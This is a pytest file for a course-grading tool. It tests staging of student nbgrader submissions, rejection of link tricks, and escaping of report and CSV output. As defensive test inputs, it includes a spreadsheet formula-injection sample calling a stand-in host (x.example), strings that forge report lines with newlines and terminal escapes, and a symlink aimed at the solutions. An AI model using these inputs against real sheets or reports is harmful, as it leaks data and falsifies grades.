"""Staging a submission against the release (coursegrade/submission.py), and the report's escaping.

No kernel runs here: the course is tests/grading_corpus's frozen ch01_linear, released once with
`nbgrader generate_assignment`; the submissions are the corpus's everyday metadata edits. Each
staged notebook must carry the release's nbgrader metadata and pass nbgrader's own sanitize steps
(which reject some of the unstaged ones), and submitted/ must stay byte for byte what it was.
"""
import copy
import csv
import os

import nbformat
import pytest
from traitlets.config import Config

from course import nbgrader
from grading_corpus import NAME, edited_metadata, index_of, make_course, notebook, solution_sources, write_submission
from coursegrade import worker
from coursegrade.batch import spreadsheet_text, write_outputs
from coursegrade.submission import stage


@pytest.fixture(scope="module")
def course(tmp_path_factory):
    course = make_course(tmp_path_factory.mktemp("staging"))
    nbgrader(course, "generate_assignment", NAME, "--force")
    return course


def snapshot(folder):
    """Every entry under `folder`: its bytes (or link target), mode and link count."""
    out = {}
    for root, dirs, files in os.walk(folder):
        for name in dirs + files:
            path = os.path.join(root, name)
            st = os.lstat(path)
            data = os.readlink(path) if os.path.islink(path) else open(path, "rb").read() if name in files else None
            out[os.path.relpath(path, folder)] = (data, st.st_mode, st.st_nlink)
    return out


def staged(course, tmp_path, student, nb):
    """Write `nb` as `student`'s submission and stage it; submitted/ must not change.

    Returns (problems, unusable, the staged notebook or None when unusable).
    """
    write_submission(course, student, nb)
    before = snapshot(course / "submitted")
    dest = tmp_path / student / NAME
    problems, unusable = stage(course / "submitted" / student / NAME, course / "solutions" / NAME,
                               course / "exercises" / NAME, dest)
    assert snapshot(course / "submitted") == before, "staging changed submitted/"
    assert all(set(p) == {"kind", "cell", "detail"} and p["detail"] for p in problems)
    return problems, unusable, None if unusable else nbformat.read(dest / f"{NAME}.ipynb", as_version=4)


def released(course):
    return nbformat.read(course / "exercises" / NAME / f"{NAME}.ipynb", as_version=4)


def meta(nb, gid):
    return nb.cells[index_of(nb, gid)].metadata["nbgrader"]


def kinds(problems):
    return {p["kind"] for p in problems}


def sanitize(course, nb):
    """nbgrader autograde's sanitize steps, as the course config sets them up."""
    from nbgrader.preprocessors import CheckCellMetadata, ClearOutput, DeduplicateIds, OverwriteCells, OverwriteKernelspec
    resources = {"nbgrader": {"notebook": NAME, "assignment": NAME, "db_url": f"sqlite:///{course}/gradebook.db"}}
    c = Config()
    c.OverwriteCells.add_missing_cells = True
    for step in (ClearOutput, DeduplicateIds, OverwriteKernelspec, OverwriteCells, CheckCellMetadata):
        nb, resources = step(config=c).preprocess(nb, resources)
    return nb


def test_an_unedited_submission_is_staged_as_it_is(course, tmp_path):
    nb = notebook(course, solution_sources())
    nb.metadata["language_info"] = {"name": "python", "version": "3.11.9", "mimetype": "text/x-python"}  # Jupyter's save
    (course / "submitted" / "honest" / NAME).mkdir(parents=True)
    (course / "submitted" / "honest" / NAME / "timestamp.txt").write_text("2026-01-05 10:00:00.000000 UTC")
    (course / "submitted" / "honest" / NAME / "notes").mkdir()
    (course / "submitted" / "honest" / NAME / "notes" / "data.bin").write_bytes(b"\x00\x01")
    problems, unusable, out = staged(course, tmp_path, "honest", nb)
    assert (problems, unusable) == ([], [])
    assert [c.source for c in out.cells] == [c.source for c in nb.cells]
    assert [c.metadata for c in out.cells] == [c.metadata for c in released(course).cells]
    assert out.metadata["language_info"] == released(course).metadata["language_info"]
    assert (tmp_path / "honest" / NAME / "timestamp.txt").read_text() == "2026-01-05 10:00:00.000000 UTC"
    assert (tmp_path / "honest" / NAME / "notes" / "data.bin").read_bytes() == b"\x00\x01"


def test_a_duplicated_cell_becomes_the_students_own(course, tmp_path):
    nb = edited_metadata("duplicate_cell", notebook(course, solution_sources()))
    problems, unusable, out = staged(course, tmp_path, "duplicate", nb)
    assert unusable == [] and kinds(problems) == {"duplicate-cell"}
    assert problems[0]["cell"] == "linear_scores"
    i = index_of(out, "linear_scores")
    assert out.cells[i].metadata["nbgrader"] == meta(released(course), "linear_scores")
    copied = out.cells[i + 1]
    assert copied.id == "copied-cell" and copied.cell_type == "code" and "nbgrader" not in copied.metadata
    assert copied.source == nb.cells[i + 1].source


def test_an_invented_graded_cell_is_stripped(course, tmp_path):
    nb = edited_metadata("new_graded_cell", notebook(course, solution_sources()))
    problems, _, out = staged(course, tmp_path, "inventor", nb)
    assert kinds(problems) == {"edited-metadata"} and problems[0]["cell"] == "my_bonus"
    assert "nbgrader" not in out.cells[-1].metadata and out.cells[-1].source == "print('bonus')"


@pytest.mark.parametrize("case, gid, field", [
    ("solution_made_test", "linear_scores", "grade"),
    ("changed_points", "test_linear_scores", "points"),
    ("unknown_schema", "bias_trick", "schema_version"),
])
def test_edited_metadata_is_restored_from_the_release(course, tmp_path, case, gid, field):
    problems, _, out = staged(course, tmp_path, case, edited_metadata(case, notebook(course, solution_sources())))
    assert kinds(problems) == {"edited-metadata"}
    assert problems[0]["cell"] == gid and field in problems[0]["detail"]
    assert meta(out, gid) == meta(released(course), gid)


def test_a_changed_kernelspec_is_restored(course, tmp_path):
    nb = edited_metadata("changed_kernelspec", notebook(course, solution_sources()))
    problems, _, out = staged(course, tmp_path, "kernel", nb)
    assert kinds(problems) == {"edited-metadata"} and "kernelspec" in problems[0]["detail"]
    assert out.metadata["kernelspec"] == released(course).metadata["kernelspec"]


def test_a_test_cell_turned_into_markdown_runs_again(course, tmp_path):
    nb = notebook(course, solution_sources())
    i = index_of(nb, "test_bias_trick")
    cell = nb.cells[i]
    nb.cells[i] = nbformat.v4.new_markdown_cell(cell.source, metadata=copy.deepcopy(cell.metadata), id=cell.id)
    problems, _, out = staged(course, tmp_path, "markdown", nb)
    assert kinds(problems) == {"edited-metadata"} and "cell type" in problems[0]["detail"]
    assert out.cells[i].cell_type == "code" and out.cells[i].outputs == []


@pytest.mark.parametrize("bad", ["not a dict", {}, {"grade_id": ["a", "list"], "grade": True}])
def test_malformed_nbgrader_metadata_is_removed(course, tmp_path, bad):
    nb = notebook(course, solution_sources())
    nb.cells.append(nbformat.v4.new_code_cell("x = 1", metadata={"nbgrader": bad}))
    problems, _, out = staged(course, tmp_path, "malformed", nb)
    assert kinds(problems) == {"edited-metadata"} and problems[0]["cell"] is None
    assert "nbgrader" not in out.cells[-1].metadata
    sanitize(course, out)


@pytest.mark.parametrize("case", ["duplicate_cell", "new_graded_cell", "solution_made_test", "unknown_schema",
                                  "changed_points", "changed_kernelspec"])
def test_nbgrader_accepts_every_staged_notebook(course, tmp_path, case):
    nb = edited_metadata(case, notebook(course, solution_sources()))
    if case in ("duplicate_cell", "unknown_schema"):     # stock nbgrader: `failed` (KeyError, SchemaTooNewError)
        with pytest.raises(Exception):
            sanitize(course, copy.deepcopy(nb))
    _, _, out = staged(course, tmp_path, case, nb)
    graded = sanitize(course, out)
    assert sum(1 for c in graded.cells if c.metadata.get("nbgrader", {}).get("grade_id") == "linear_scores") == 1


@pytest.mark.parametrize("case, kind", [("hard_link", "hardlink"), ("symlink_to_solutions", "symlink")])
def test_links_are_refused(course, tmp_path, case, kind):
    nb = ("hardlink", notebook(course, solution_sources())) if case == "hard_link" else \
        course / "solutions" / NAME / f"{NAME}.ipynb"
    problems, unusable, out = staged(course, tmp_path, case, nb)
    assert kinds(problems) == {kind} and unusable == [NAME]
    assert out is None and not (tmp_path / case).exists(), "nothing staged"


def test_missing_and_corrupt_notebooks_are_unusable(course, tmp_path):
    problems, unusable, _ = staged(course, tmp_path, "missing", None)
    assert kinds(problems) == {"missing"} and unusable == [NAME]
    problems, unusable, _ = staged(course, tmp_path, "corrupt", '{"cells": [')
    assert kinds(problems) == {"corrupt"} and unusable == [NAME]


def nbgrader_config(course):
    from traitlets.config.loader import PyFileConfigLoader
    cfg = PyFileConfigLoader("nbgrader_config.py", path=str(course)).load_config()
    cfg.CourseDirectory.root = str(course)
    cfg.CourseDirectory.db_url = f"sqlite:///{course}/gradebook.db"
    return cfg


def test_nbgrader_autograde_reads_the_staged_copy(course, tmp_path):
    """submitted_directory moves autograde's input, timestamp.txt included (no kernel: no Execute step)."""
    from nbgrader.api import Gradebook
    from nbgrader.apps import NbGraderAPI
    from nbgrader.coursedir import CourseDirectory
    incoming = tmp_path / "incoming"                   # nothing in submitted/ for this student
    incoming.mkdir()
    nbformat.write(edited_metadata("duplicate_cell", notebook(course, solution_sources())), incoming / f"{NAME}.ipynb")
    (incoming / "timestamp.txt").write_text("2026-01-05 10:00:00.000000 UTC")
    stage(incoming, course / "solutions" / NAME, course / "exercises" / NAME,
          course / "grading" / NAME / "staged" / "newcomer" / NAME)
    cfg = nbgrader_config(course)
    cfg.CourseDirectory.submitted_directory = os.path.join("grading", NAME, "staged")
    cfg.Autograde.autograde_preprocessors = ["nbgrader.preprocessors.SaveAutoGrades"]
    out = NbGraderAPI(coursedir=CourseDirectory(config=cfg, root=str(course)), config=cfg).autograde(NAME, "newcomer")
    assert out["success"], out.get("log")
    with Gradebook(cfg.CourseDirectory.db_url) as gb:
        assert str(gb.find_submission(NAME, "newcomer").timestamp) == "2026-01-05 10:00:00"
    graded = nbformat.read(course / "autograded" / "newcomer" / NAME / f"{NAME}.ipynb", as_version=4)
    assert "nbgrader" not in graded.cells[index_of(graded, "linear_scores") + 1].metadata


def test_the_worker_grades_the_staged_copy_and_removes_it(course, tmp_path, monkeypatch):
    from nbgrader.apps import NbGraderAPI
    seen = {}

    def autograde(api, assignment, student, **kwargs):
        cd = api.coursedir
        folder = cd.format_path(cd.submitted_directory, student, assignment)
        seen.update(folder=folder, files=sorted(os.listdir(folder)),
                    nb=nbformat.read(os.path.join(folder, f"{NAME}.ipynb"), as_version=4))
        return {"success": False, "error": "stopped by the test"}

    monkeypatch.setattr(NbGraderAPI, "autograde", autograde)
    write_submission(course, "worker_case", edited_metadata("changed_points", notebook(course, solution_sources())))
    job = {"course": str(course), "assignment": NAME, "student": "worker_case", "result": str(tmp_path / "r.json"),
           "cell_timeout": 5, "notebook_timeout": 60, "memory": 2**30, "sandbox": "rlimit", "db_url": None}
    result = worker.grade_in_this_process(job)
    assert seen["folder"] == str(course / "grading" / NAME / "staged" / "worker_case" / NAME)
    assert seen["files"] == [f"{NAME}.ipynb"]
    assert meta(seen["nb"], "test_linear_scores")["points"] == 3
    assert {"edited-metadata", "grader"} == kinds(result["problems"]) and result["status"] == "failed"
    assert not (course / "grading" / NAME / "staged" / "worker_case").exists()


def test_a_refused_submission_scores_zero(course):
    write_submission(course, "linked", course / "solutions" / NAME / f"{NAME}.ipynb")
    job = {"course": str(course), "assignment": NAME, "student": "linked", "result": str(course / "linked.json"),
           "cell_timeout": 5, "notebook_timeout": 60, "memory": 2**30, "sandbox": "rlimit", "db_url": None}
    result = worker.grade_in_this_process(job)
    assert (result["status"], result["score"], result["max_score"]) == ("graded", 0.0, 8.0)
    assert kinds(result["problems"]) == {"symlink"}


def test_student_text_cannot_forge_report_lines(tmp_path):
    evil, formula = "evil\nalice 8/8 ok", '=HYPERLINK("http://x.example/?"&A1,"click")'
    undecodable = os.fsdecode(b"caf\xff\x1b[2J")
    rows = [
        {"student": evil, "assignment": NAME, "status": "graded", "score": 0.0, "max_score": 8.0, "seconds": 1.0,
         "problems": [{"kind": "corrupt", "cell": None, "detail": "boom\r\nbob    8/8  ok\x1b[31m"}]},
        {"student": formula, "assignment": NAME, "status": "graded", "score": 8.0, "max_score": 8.0, "seconds": 1.0,
         "problems": []},
        {"student": undecodable, "assignment": NAME, "status": "failed", "score": None, "max_score": None,
         "seconds": None, "problems": [{"kind": "grader", "cell": "x\u2028y", "detail": "-1+1"}]},
    ]
    summary = {"assignment": NAME, "graded_now": 3, "reused": 0, "wall_seconds": 1.0, "calibration_seconds": 1.0,
               "workers": 1, "sandbox": "rlimit", "calibration": {"tests": ["t"]}}
    write_outputs(tmp_path, rows, summary)
    report = (tmp_path / "report.txt").read_text()
    assert "\r" not in report and "\x1b" not in report and "\u2028" not in report
    lines = report.splitlines()
    assert not [l for l in lines if l.startswith(("alice", "bob"))]
    assert [l for l in lines if l.startswith("evil\\nalice 8/8 ok")] and "boom\\r\\nbob" in report
    assert "caf\\udcff\\x1b[2J" in report
    raw = (tmp_path / "grades.csv").read_text()
    assert len(raw.splitlines()) == 1 + len(rows)
    table = list(csv.reader(raw.splitlines()))
    assert [len(r) for r in table] == [7] * (1 + len(rows))
    by_student = {r[0]: r for r in table[1:]}
    assert set(by_student) == {"evil\\nalice 8/8 ok", "'" + formula, "caf\\udcff\\x1b[2J"}
    assert by_student["'" + formula][2] == "8.0"


@pytest.mark.parametrize("text, want", [("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"),
                                        ("\t=1", "\\t=1"), ("alice", "alice"), (-1.5, -1.5)])
def test_spreadsheet_text(text, want):
    assert spreadsheet_text(text) == want
